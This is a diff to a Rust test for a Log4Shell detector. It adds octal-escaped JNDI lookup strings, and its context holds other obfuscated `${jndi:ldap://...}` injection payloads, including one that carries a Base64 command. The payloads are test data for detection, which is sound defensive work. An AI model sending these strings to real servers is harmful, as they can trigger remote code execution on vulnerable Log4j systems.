@@ -48,6 +48,9 @@ fn jndi_family() {
             ("${jnd${upper:ı}:ldap://x/a}", "log4j.jndi-lookup"),
             ("X-Api-Version: ${${lower:j}${upper:n}${lower:d}i:${lower:l}dap://x:1389/Basic/Command/Base64/aWQ=}", "log4j.jndi-lookup"),
             ("WARN Error looking up JNDI resource [ldap://192.0.2.1:1389/a]", "log4j.jndi-lookup-error"),
+            // Octal escapes (`\044` is `$`), alone and mixed with `\\44` and `\u0024`.
+            (r"X-Api-Version: \044{jndi:ldap://x.example/a}", "log4j.jndi-lookup"),
+            (r"ua=\044{j\\44{lower:n}di:\u0024{lower:l}dap://x.example/a}", "log4j.jndi-lookup"),
             // Split payloads: lookups spelling `jndi:` with no outer `${` and nothing after.
             ("User-Agent: j${::-nD}i${::-:}", "log4j.jndi-assembled"),
             ("X-Forwarded-For: j${k8s:k5:-ND}i${sd:k5:-:}", "log4j.jndi-assembled"),
